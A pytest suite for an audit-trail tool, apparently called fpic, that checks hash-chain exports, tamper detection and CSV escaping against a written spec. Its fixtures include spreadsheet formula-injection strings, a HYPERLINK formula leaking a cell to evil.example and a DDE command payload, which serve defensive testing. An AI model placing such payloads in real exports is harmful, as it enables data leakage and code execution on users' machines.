"""docs/audit-format.md is enough to verify the trail without fpic.

The verifier here is written from the document alone: json only to parse, hashlib, csv, and its
own canonical JSON encoder (the escape table and key order of section 3). It must agree with
what fpic exports for a realistic case, and the document's worked example must still recompute.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from fpic.accounts.sessions import sign_in
from fpic.cli import main
from fpic.storage.models import ChainHead
from fpic.workflow.errors import FpicError
from tests.factories import World, make_world, walk_to

DOC = Path(__file__).resolve().parents[2] / "docs" / "audit-format.md"

GENESIS = "0" * 64
BODY_FIELDS = ("chain", "seq", "at", "actor", "role", "action", "outcome", "case", "from", "to")
HEADER = [*BODY_FIELDS, "data", "prev_hash", "hash"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")
TIMESTAMP = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$")
HEX64 = re.compile(r"^[0-9a-f]{64}$")

# --- the verifier, from the document -----------------------------------------------------------

_SHORT_ESCAPES = {
    '"': '\\"',
    "\\": "\\\\",
    "\b": "\\b",
    "\t": "\\t",
    "\n": "\\n",
    "\f": "\\f",
    "\r": "\\r",
}


def _string(text: str) -> str:
    out = []
    for char in text:
        if char in _SHORT_ESCAPES:
            out.append(_SHORT_ESCAPES[char])
        elif ord(char) < 0x20:
            out.append(f"\\u{ord(char):04x}")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


def canonical(value: Any) -> str:
    """Section 3, by hand: no json.dumps, keys ordered by their UTF-8 bytes."""
    if value is None:
        return "null"
    if value is True:
        return "true"
    if value is False:
        return "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, str):
        return _string(value)
    if isinstance(value, list):
        return "[" + ",".join(canonical(item) for item in value) + "]"
    if isinstance(value, dict):
        keys = sorted(value, key=lambda key: key.encode("utf-8"))
        return "{" + ",".join(_string(key) + ":" + canonical(value[key]) for key in keys) + "}"
    raise TypeError(f"not a trail value: {value!r}")


def event_hash(prev_hash: str, event: dict[str, Any]) -> str:
    body = {key: event[key] for key in (*BODY_FIELDS, "data")}
    return hashlib.sha256(prev_hash.encode("ascii") + canonical(body).encode("utf-8")).hexdigest()


def first_break(
    events: list[dict[str, Any]],
) -> tuple[dict[str, tuple[int, str]], tuple[str, int] | None]:
    """(last seq and hash per chain, None) when intact, else the first broken (chain, seq)."""
    heads: dict[str, tuple[int, str]] = {}
    broken: list[tuple[str, int]] = []
    for event in events:
        chain = event["chain"]
        if any(chain == c for c, _ in broken):
            continue
        seq, prev = heads.get(chain, (0, GENESIS))
        if (
            type(event["seq"]) is not int
            or event["seq"] != seq + 1
            or event["prev_hash"] != prev
            or event["hash"] != event_hash(prev, event)
        ):
            broken.append((chain, event["seq"]))
            continue
        heads[chain] = (event["seq"], event["hash"])
    order = sorted(broken, key=lambda b: (b[0] != "system", int(b[0].partition(":")[2] or 0)))
    return heads, (order[0] if order else None)


def _no_float(text: str) -> Any:
    raise AssertionError(f"a float in the trail: {text}")


def read_jsonl(text: str) -> list[dict[str, Any]]:
    assert text.endswith("\n")
    lines = text.split("\n")[:-1]  # LF only: U+2028 and U+0085 may sit inside a line
    return [json.loads(line, parse_float=_no_float, parse_constant=_no_float) for line in lines]


def unneutralise(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def read_csv(text: str) -> list[dict[str, Any]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == HEADER
    events = []
    for raw in rows[1:]:
        cells = dict(zip(HEADER, (unneutralise(c) for c in raw), strict=True))
        events.append(
            {
                **cells,
                "seq": int(cells["seq"]),
                "case": int(cells["case"]) if cells["case"] else None,
                "from": cells["from"] or None,
                "to": cells["to"] or None,
                "data": json.loads(cells["data"], parse_float=_no_float),
            }
        )
    return events


def trail_head(heads: dict[str, tuple[int, str]]) -> str:
    """Section 7: every chain but access, sorted by code points."""
    names = sorted((n for n in heads if n != "access"), key=lambda name: [ord(c) for c in name])
    lines = "".join(f"{name}\t{heads[name][0]}\t{heads[name][1]}\n" for name in names)
    return hashlib.sha256(lines.encode("utf-8")).hexdigest()


# --- a realistic trail ---------------------------------------------------------------------------

#: refused attempts whose names a spreadsheet would run, or that need escaping in JSON
ODD_TRIGGERS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "+1+1",
    "-1",
    "@SUM(A1:A9)",
    "\tcmd",
    "'quoted",
    "\rreturn",
    "esc\x1b del\x7f nel\x85 ls\u2028 ps\u2029 slash/ back\\slash",
]
#: names typed at a failed sign-in: they become the actor of a system-chain event
ODD_SIGN_INS = ["=cmd|' /C calc'!A0", "", "Mamani\rRosa", "ñandú\u2028ave 🐦"]
REPORT_EQ = '=SUM(A1) caudal «Ñawpa Yaku»: "normal" \\ ok\tcol\r\nqhipa — 🗓'
REPORT_MINUS = "-3 pozos secos; +2 nuevos @ Qollana"


def _refused(action: Any) -> None:
    with pytest.raises(FpicError):
        action()


def build_trail(world: World) -> int:
    community = world.add_community("ayllu-nawpa-yaku", ["qu", "es"])
    case_id = world.open_case(community)
    walk_to(world, case_id, "monitoring", community)
    rep = community.rep_actors[0]
    world.clock.advance(days=90, microseconds=123457)
    world.act(case_id, "record_monitoring_report", world.liaison, {"text": REPORT_EQ})
    world.act(case_id, "record_monitoring_report", rep, {"text": REPORT_MINUS, "language": "es"})
    for name in ODD_TRIGGERS:
        _refused(lambda name=name: world.act(case_id, name, world.liaison))
    _refused(lambda: world.act(case_id, "close_case", world.liaison, {"text": "Cerrado."}))
    _refused(lambda: world.engine.advance(999, "close_case", rep, None, 1))
    for typed in ODD_SIGN_INS:
        _refused(lambda typed=typed: sign_in(world.engine, typed, "not the password"))
    return case_id


@pytest.fixture(scope="module")
def trail(tmp_path_factory) -> Iterator[tuple[World, int]]:
    world = make_world(f"sqlite:///{tmp_path_factory.mktemp('format') / 'fpic.sqlite3'}")
    case_id = build_trail(world)
    yield world, case_id
    world.db.dispose()


def cli(world: World, *args: str):
    return CliRunner().invoke(main, ["--database-url", world.db.url, *args])


def export(world: World, tmp_path: Path, fmt: str, *extra: str) -> str:
    out = tmp_path / f"trail.{fmt}"
    result = cli(world, "audit", "export", "--format", fmt, "-o", str(out), *extra)
    assert result.exit_code == 0, result.output
    return out.read_bytes().decode("utf-8")


def recorded_heads(world: World) -> dict[str, tuple[int, str]]:
    with world.db.read_session() as session:
        return {h.chain: (h.seq, h.hash) for h in session.scalars(select(ChainHead))}


# --- the realistic trail against the document ---------------------------------------------------


def test_jsonl_export_is_canonical_and_verifies_independently(trail, tmp_path):
    world, case_id = trail
    text = export(world, tmp_path, "jsonl")
    assert not text.startswith("\ufeff")
    assert "\r" not in text
    events = read_jsonl(text)
    for line, event in zip(text.split("\n")[:-1], events, strict=True):
        assert line == canonical(event)  # byte for byte what section 5 says
        assert list(event) == sorted(HEADER)
        assert TIMESTAMP.match(event["at"]), event["at"]
        assert HEX64.match(event["hash"])
        assert HEX64.match(event["prev_hash"])
        assert isinstance(event["data"], dict)
        assert event["outcome"] in ("done", "refused")
        if event["chain"] in ("system", "access"):
            assert (event["case"], event["from"], event["to"]) == (None, None, None)
        else:
            assert event["chain"] == f"case:{event['case']}"
    heads, broken = first_break(events)
    assert broken is None
    assert heads == recorded_heads(world)
    assert len(events) > 60
    # what makes this trail worth checking is really in it
    for needle in ["\\u001b", "\x7f", "\x85", "\u2028", "\u2029", "🐦", "\\r\\n", '\\"', "«Ñawpa"]:
        assert needle in text, needle
    actions = {e["action"] for e in events if e["chain"] == f"case:{case_id}"}
    assert set(ODD_TRIGGERS) <= actions
    assert {"monitoring"} == {e["to"] for e in events if e["action"] == "record_monitoring_report"}


def test_trail_head_recomputes_from_a_full_export(trail, tmp_path):
    world, _ = trail
    heads, broken = first_break(read_jsonl(export(world, tmp_path, "jsonl")))
    assert broken is None
    result = cli(world, "audit", "head")
    assert result.exit_code == 0, result.output
    assert result.output.split()[0] == trail_head(heads)


def test_csv_export_reads_back_to_the_same_events_and_verifies(trail, tmp_path):
    world, _ = trail
    text = export(world, tmp_path, "csv")
    assert text.startswith(",".join(HEADER) + "\n")
    assert not text.startswith("\ufeff")
    events = read_csv(text)
    assert events == read_jsonl(export(world, tmp_path, "jsonl"))
    assert first_break(events)[1] is None
    raw_rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    raw_cells = [cell for row in raw_rows for cell in row]
    # no cell a spreadsheet would run; every escaped one is given back exactly
    assert not [c for c in raw_cells if c.startswith(FORMULA_STARTS[:-1])]
    for name in [*ODD_TRIGGERS, "=cmd|' /C calc'!A0", "-"]:
        if name.startswith(FORMULA_STARTS):
            assert "'" + name in raw_cells, name
    # text inside data is not touched: the data cell starts with "{"
    assert json.dumps(REPORT_EQ, ensure_ascii=False)[1:-1] in text.replace('""', '"')
    assert all(row[10].startswith("{") for row in raw_rows)


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_case_export_is_one_chain_from_genesis(trail, tmp_path, fmt):
    world, case_id = trail
    text = export(world, tmp_path, fmt, "--case", str(case_id))
    events = read_jsonl(text) if fmt == "jsonl" else read_csv(text)
    assert {e["chain"] for e in events} == {f"case:{case_id}"}
    assert [e["seq"] for e in events] == list(range(1, len(events) + 1))
    assert events[0]["prev_hash"] == GENESIS
    heads, broken = first_break(events)
    assert broken is None
    assert heads[f"case:{case_id}"] == recorded_heads(world)[f"case:{case_id}"]


def _tamper_edit(events: list[dict[str, Any]], i: int) -> tuple[list[dict[str, Any]], int]:
    events[i]["data"]["payload"]["text"] = "Nothing was said about water."
    return events, events[i]["seq"]


def _tamper_delete(events: list[dict[str, Any]], i: int) -> tuple[list[dict[str, Any]], int]:
    seq = events[i]["seq"]
    del events[i]
    return events, seq + 1


def _tamper_swap(events: list[dict[str, Any]], i: int) -> tuple[list[dict[str, Any]], int]:
    events[i], events[i + 1] = events[i + 1], events[i]
    return events, events[i]["seq"]


def _tamper_insert(events: list[dict[str, Any]], i: int) -> tuple[list[dict[str, Any]], int]:
    forged = json.loads(json.dumps(events[i]))
    forged["data"]["payload"]["text"] = "The assembly agreed to everything."
    forged["hash"] = event_hash(forged["prev_hash"], forged)
    events.insert(i, forged)
    return events, events[i + 1]["seq"]


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
@pytest.mark.parametrize("tamper", [_tamper_edit, _tamper_delete, _tamper_swap, _tamper_insert])
def test_independent_verifier_and_fpic_name_the_same_break(trail, tmp_path, fmt, tamper):
    world, case_id = trail
    events = read_jsonl(export(world, tmp_path, "jsonl"))
    i = next(n for n, e in enumerate(events) if e["action"] == "record_monitoring_report")
    events, expected_seq = tamper(events, i)
    assert first_break(events)[1] == (f"case:{case_id}", expected_seq)
    path = tmp_path / f"tampered.{fmt}"
    if fmt == "jsonl":
        path.write_bytes("".join(canonical(e) + "\n" for e in events).encode("utf-8"))
    else:
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
        writer.writerow(HEADER)
        for e in events:
            cells = [canonical(e[k]) if k == "data" else e[k] for k in HEADER]
            cells = ["" if c is None else str(c) for c in cells]
            writer.writerow(["'" + c if c.startswith(FORMULA_STARTS) else c for c in cells])
        path.write_bytes(buffer.getvalue().encode("utf-8"))
    written = path.read_bytes().decode("utf-8")
    reread = read_jsonl(written) if fmt == "jsonl" else read_csv(written)
    assert first_break(reread)[1] == (f"case:{case_id}", expected_seq)
    result = cli(world, "audit", "verify", str(path))
    assert result.exit_code == 1, result.output
    assert f"chain case:{case_id}, sequence number {expected_seq}, line " in result.output


def test_the_escape_table_is_what_fpic_writes():
    """Section 3 against fpic's encoder, for every character class the table names."""
    from fpic.trail.audit import canonical_json

    samples = [chr(c) for c in range(0x00, 0xA0)]
    samples += ["\u2028", "\u2029", "\ufeff", "\uffff", "\U0001f5d3", "é", "Ñ", "—", "/", "</"]
    for char in samples:
        value = {"k": char, char: [char]}
        assert canonical(value) == canonical_json(value), repr(char)
    assert canonical_json("\x1f\x7f") == '"\\u001f\x7f"'
    assert canonical_json({"\uffff": 1, "\U0001f5d3": 2, "Z": 3, "a": 4, "": 5}) == (
        '{"":5,"Z":3,"a":4,"\uffff":1,"\U0001f5d3":2}'
    )
    assert canonical_json([True, False, None, -7, 0, 10**20, {}, []]) == (
        "[true,false,null,-7,0,100000000000000000000,{},[]]"
    )


# --- the worked example and the reference verifier in the document ----------------------------


def doc_block(label: str) -> str:
    found = re.findall(
        rf"^```[\w-]* {re.escape(label)}\n(.*?)\n```$", DOC.read_text("utf-8"), re.M | re.S
    )
    assert len(found) == 1, f"docs/audit-format.md needs exactly one block labelled {label}"
    return found[0]


def test_worked_example_recomputes():
    lines = doc_block("example-export").split("\n")
    events = [json.loads(line) for line in lines]
    assert [canonical(e) for e in events] == lines
    body = doc_block("example-body")
    second = events[1]
    assert body == canonical({k: second[k] for k in (*BODY_FIELDS, "data")})
    prev_hash = doc_block("example-prev-hash")
    assert prev_hash == events[0]["hash"] == second["prev_hash"]
    digest = hashlib.sha256(prev_hash.encode("ascii") + body.encode("utf-8")).hexdigest()
    assert digest == doc_block("example-hash") == second["hash"]
    assert events[0]["prev_hash"] == GENESIS
    assert events[0]["hash"] == event_hash(GENESIS, events[0])
    assert first_break(events)[1] is None
    # the non-ASCII characters the text names, raw, and the escapes it names
    assert all(char in body for char in ("Ñ", "—", "\U0001f5d3", '\\"', "\\n"))


def test_worked_example_csv_is_the_same_events():
    csv_text = doc_block("example-csv") + "\n"
    events = read_csv(csv_text)
    assert events == [json.loads(line) for line in doc_block("example-export").split("\n")]


def test_worked_example_trail_head_recomputes():
    heads = {}
    for line in doc_block("example-heads").split("\n"):
        chain, seq, digest = line.split()
        heads[chain] = (int(seq), digest)
    last = json.loads(doc_block("example-export").split("\n")[-1])
    assert heads[last["chain"]] == (last["seq"], last["hash"])
    digest, counts = doc_block("example-trail-head").split("  ")
    assert digest == trail_head(heads)
    assert counts == f"({len(heads)} chains, {sum(s for s, _ in heads.values())} events)"


def test_worked_example_csv_header_is_what_fpic_writes(trail, tmp_path):
    world, _ = trail
    header = doc_block("example-csv").split("\n")[0]
    assert export(world, tmp_path, "csv").split("\n")[0] == header == ",".join(HEADER)


@pytest.fixture(scope="module")
def reference() -> dict[str, Any]:
    namespace: dict[str, Any] = {"__name__": "reference_verifier"}
    exec(compile(doc_block("reference-verifier"), str(DOC), "exec"), namespace)
    return namespace


def test_reference_verifier_checks_the_example_and_a_real_export(reference, trail, tmp_path):
    example = [line + "\n" for line in doc_block("example-export").split("\n")]
    assert reference["verify"](example)[1] is None
    world, case_id = trail
    text = export(world, tmp_path, "jsonl")
    heads, broken = reference["verify"]([line + "\n" for line in text.split("\n")[:-1]])
    assert broken is None
    assert heads == recorded_heads(world)
    assert reference["trail_head"](heads) == cli(world, "audit", "head").output.split()[0]
    events = read_jsonl(text)
    events, seq = _tamper_edit(
        events, next(n for n, e in enumerate(events) if e["action"] == "record_monitoring_report")
    )
    _, broken = reference["verify"]([canonical(e) + "\n" for e in events])
    assert broken[:2] == (f"case:{case_id}", seq)
    assert "hash" in broken[2]


def test_reference_verifier_runs_as_a_script(trail, tmp_path):
    world, _ = trail
    script = tmp_path / "verify.py"
    script.write_text(doc_block("reference-verifier") + "\n", encoding="utf-8")
    export(world, tmp_path, "jsonl")
    good = subprocess.run(
        [sys.executable, str(script), str(tmp_path / "trail.jsonl")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert good.returncode == 0, good.stderr
    assert good.stdout.startswith("Intact:")
    assert cli(world, "audit", "head").output.split()[0] in good.stdout
    lines = (tmp_path / "trail.jsonl").read_bytes().decode("utf-8").split("\n")
    chains = [json.loads(line)["chain"] for line in lines[:-1]]
    # a line with another of its chain after it: its removal shows in the file itself
    middle = next(n for n in range(1, len(chains) - 1) if chains[n] == chains[n + 1])
    removed = json.loads(lines.pop(middle))
    (tmp_path / "bad.jsonl").write_bytes("\n".join(lines).encode("utf-8"))
    bad = subprocess.run(
        [sys.executable, str(script), str(tmp_path / "bad.jsonl")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert bad.returncode == 1
    assert "BROKEN: chain" in bad.stderr
    assert f"BROKEN: chain {removed['chain']}, sequence number {removed['seq'] + 1}:" in bad.stderr
    assert f"expected sequence number {removed['seq']}" in bad.stderr


# --- a strict verifier: what section 2 and 8 refuse, even with every hash recomputed ----------


def _relinked(events: list[dict[str, Any]], chain: str) -> list[dict[str, Any]]:
    """Every event of ``chain`` hashed again from the genesis: what a forger with the algorithm
    does, so that only the checks of types and forms can tell."""
    prev = GENESIS
    for event in events:
        if event["chain"] == chain:
            event["prev_hash"] = prev
            event["hash"] = prev = event_hash(prev, event)
    return events


def _write_jsonl(path: Path, lines: list[str]) -> Path:
    path.write_bytes("".join(line + "\n" for line in lines).encode("utf-8"))
    return path


def _case_line(lines: list[str], case_id: int, needle: str = "") -> int:
    return next(
        n
        for n, line in enumerate(lines)
        if json.loads(line)["chain"] == f"case:{case_id}" and needle in line
    )


@pytest.mark.parametrize(
    ("duplicate", "named"),
    [
        (('"actor":"liaison"', '"actor":"mallory","actor":"liaison"'), 'duplicate key "actor"'),
        (('"records":{', '"records":{"note_id":999},"records":{'), 'duplicate key "records"'),
    ],
    ids=["top-level", "inside-data"],
)
def test_a_duplicate_key_is_refused_with_its_chain_and_position(trail, tmp_path, duplicate, named):
    """The forged copy comes first: a reader keeping the last copy sees the hashed value, a
    reader keeping the first one sees the forgery (found by a verifier written from the spec)."""
    world, case_id = trail
    lines = export(world, tmp_path, "jsonl").split("\n")[:-1]
    i = _case_line(lines, case_id, duplicate[0])
    seq = json.loads(lines[i])["seq"]
    lines[i] = lines[i].replace(duplicate[0], duplicate[1], 1)
    assert json.loads(lines[i])["seq"] == seq  # Python's json alone still reads it
    result = cli(world, "audit", "verify", str(_write_jsonl(tmp_path / "dup.jsonl", lines)))
    assert result.exit_code == 1, result.output
    assert f"BROKEN: chain case:{case_id}, sequence number {seq}, line {i + 1}:" in result.output
    assert named in result.output


#: (field, forged value, what the message names), each re-hashed so every link holds
WRONG_TYPES = [
    ("at", "2025-11-02 23:12:43Z", "at is not of the form"),
    ("at", "2026-02-30T09:00:00.000000Z", "at is not a real date and time"),
    ("at", "2026-03-02T09:00:00.000000", "at is not of the form"),
    ("at", "٢٠٢٦-03-02T09:00:00.000000Z", "at is not of the form"),
    ("case", "10", "case is not null or an integer"),
    ("case", True, "case is not null or an integer"),
    ("data", [1, 2], "data is not an object"),
    ("role", 7, "role is not a string"),
    ("actor", None, "actor is not a string"),
    ("outcome", "maybe", "outcome is not"),
    ("from", "", "from is not null or a non-empty string"),
]


@pytest.mark.parametrize(("key", "value", "named"), WRONG_TYPES)
def test_a_rehashed_event_of_the_wrong_type_is_refused(trail, tmp_path, key, value, named):
    world, case_id = trail
    events = read_jsonl(export(world, tmp_path, "jsonl"))
    i = next(n for n, e in enumerate(events) if e["chain"] == f"case:{case_id}" and e["seq"] == 3)
    events[i][key] = value
    events = _relinked(events, f"case:{case_id}")
    path = _write_jsonl(tmp_path / "typed.jsonl", [canonical(e) for e in events])
    result = cli(world, "audit", "verify", str(path))
    assert result.exit_code == 1, result.output
    assert f"BROKEN: chain case:{case_id}, sequence number 3, line {i + 1}:" in result.output
    assert named in result.output


def test_a_chain_rehashed_with_seq_true_is_refused_at_a_line_that_exists(trail, tmp_path):
    world, case_id = trail
    events = read_jsonl(export(world, tmp_path, "jsonl"))
    i = next(n for n, e in enumerate(events) if e["chain"] == f"case:{case_id}" and e["seq"] == 1)
    events[i]["seq"] = True  # True == 1 in Python: an integer check that forgets bool takes it
    events = _relinked(events, f"case:{case_id}")
    path = _write_jsonl(tmp_path / "seq.jsonl", [canonical(e) for e in events])
    assert '"seq":true' in path.read_text(encoding="utf-8")
    result = cli(world, "audit", "verify", str(path))
    assert result.exit_code == 1, result.output
    assert f"BROKEN: chain case:{case_id}, line {i + 1}: malformed event: seq is not" in (
        result.output
    )
    assert "True" not in result.output
    assert "None" not in result.output


def test_an_event_without_a_chain_name_is_named_by_its_line(trail, tmp_path):
    world, _ = trail
    events = read_jsonl(export(world, tmp_path, "jsonl"))
    events[2]["chain"] = None
    result = cli(
        world,
        "audit",
        "verify",
        str(_write_jsonl(tmp_path / "c.jsonl", [canonical(e) for e in events])),
    )
    assert result.exit_code == 1, result.output
    assert f"BROKEN: sequence number {events[2]['seq']}, line 3: malformed event: chain is" in (
        result.output
    )


def test_a_first_event_without_a_chain_name_is_refused(trail, tmp_path):
    """The chain name is checked when it changes from the previous row's; the first row has no
    previous one, and a null name once compared equal to that nothing (found by mypy)."""
    world, _ = trail
    [first] = read_jsonl(export(world, tmp_path, "jsonl"))[:1]
    first["chain"] = None
    first["prev_hash"] = GENESIS
    first["hash"] = event_hash(GENESIS, first)
    path = _write_jsonl(tmp_path / "first.jsonl", [canonical(first)])
    result = cli(world, "audit", "verify", str(path))
    assert result.exit_code == 1, result.output
    assert "line 1: malformed event: chain is not a string" in result.output


def test_extra_and_missing_members_are_refused(trail, tmp_path):
    world, case_id = trail
    events = read_jsonl(export(world, tmp_path, "jsonl"))
    i = next(n for n, e in enumerate(events) if e["chain"] == f"case:{case_id}")
    events[i]["note"] = "not covered by any hash"
    result = cli(
        world,
        "audit",
        "verify",
        str(_write_jsonl(tmp_path / "x.jsonl", [canonical(e) for e in events])),
    )
    assert result.exit_code == 1
    assert "members not allowed: note" in result.output
    del events[i]["note"], events[i]["to"]
    result = cli(
        world,
        "audit",
        "verify",
        str(_write_jsonl(tmp_path / "y.jsonl", [canonical(e) for e in events])),
    )
    assert result.exit_code == 1
    assert "members missing: to" in result.output


@pytest.mark.parametrize(
    ("spoil", "named"),
    [
        (lambda text: "\ufeff" + text, "starts with a byte order mark (U+FEFF)"),
        (lambda text: text.replace("\n", "\r\n"), "holds a carriage return"),
        (lambda text: text[:-1], "does not end with a line feed"),
        (lambda text: text.replace("\n", "\n\n", 1), "line 2 is empty"),
    ],
    ids=["bom", "crlf", "no-final-lf", "empty-line"],
)
def test_jsonl_file_level_rules(trail, tmp_path, spoil, named):
    world, _ = trail
    path = tmp_path / "spoilt.jsonl"
    path.write_bytes(spoil(export(world, tmp_path, "jsonl")).encode("utf-8"))
    result = cli(world, "audit", "verify", str(path))
    assert result.exit_code == 1
    assert "cannot be read as a trail export" in result.output
    assert named in result.output


def test_csv_with_crlf_line_ends_is_refused(trail, tmp_path):
    world, _ = trail
    text = export(world, tmp_path, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    buffer = io.StringIO()
    # what a spreadsheet saves
    csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
    path = tmp_path / "crlf.csv"
    path.write_bytes(buffer.getvalue().encode("utf-8"))
    assert read_csv(text) == read_csv(buffer.getvalue())  # Python's csv alone takes both
    result = cli(world, "audit", "verify", str(path))
    assert result.exit_code == 1
    assert "line 1 ends with a carriage return" in result.output


@pytest.mark.parametrize("cell", ["+5", "٥", "05", " 5", "5_0"])
def test_csv_seq_cells_are_ascii_decimal_only(trail, tmp_path, cell):
    world, case_id = trail
    text = export(world, tmp_path, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    i = next(n for n, r in enumerate(rows) if r[0] == f"case:{case_id}" and r[1] == "5")
    rows[i][1] = cell  # the hash covers the integer 5, which int() reads from most of these
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    path = tmp_path / "digits.csv"
    path.write_bytes(buffer.getvalue().encode("utf-8"))
    result = cli(world, "audit", "verify", str(path))
    assert result.exit_code == 1, result.output
    assert f"BROKEN: chain case:{case_id}, line {i + 1}: malformed event: the seq cell" in (
        result.output
    )


# --- section 13: the evidence bundle, checked by the document's own bundle verifier ------------


def _bundle_scripts(tmp_path: Path) -> Path:
    (tmp_path / "verify.py").write_text(doc_block("reference-verifier") + "\n", encoding="utf-8")
    script = tmp_path / "verify_bundle.py"
    script.write_text(doc_block("reference-bundle-verifier") + "\n", encoding="utf-8")
    return script


def _run(script: Path, bundle: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(script), str(bundle)],
        capture_output=True, text=True, check=False, cwd=script.parent,
    )  # fmt: skip


def test_the_documents_bundle_verifier_agrees_with_fpic(tmp_path) -> None:
    from tests.evidence.test_store import walk_with_evidence

    world = make_world(f"sqlite:///{tmp_path / 'bundle.sqlite3'}")
    walked = walk_with_evidence(world, world.add_community("ayllu-sallqa", ["qu", "es"]))
    bundle = tmp_path / "bundle.zip"
    made = cli(world, "audit", "bundle", "--case", str(walked.case_id), "-o", str(bundle))
    assert made.exit_code == 0, made.output
    (tmp_path / "scripts").mkdir()
    script = _bundle_scripts(tmp_path / "scripts")
    good = _run(script, bundle)
    assert good.returncode == 0, good.stderr
    assert good.stdout.startswith("Intact:")
    # one byte of one file changed, the archive rewritten with fresh ZIP checksums
    with zipfile.ZipFile(bundle) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    changed = next(name for name in members if name.startswith("files/"))
    members[changed] = members[changed][:-1] + bytes([members[changed][-1] ^ 1])
    tampered = tmp_path / "tampered.zip"
    with zipfile.ZipFile(tampered, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    bad = _run(script, tampered)
    assert bad.returncode == 1
    assert f"file {changed.removeprefix('files/')}" in bad.stderr
    assert "does not match" in bad.stderr
    fpic_says = cli(world, "audit", "verify", str(tampered))
    assert fpic_says.exit_code == 1
    assert changed.removeprefix("files/") in fpic_says.stderr
    world.db.dispose()
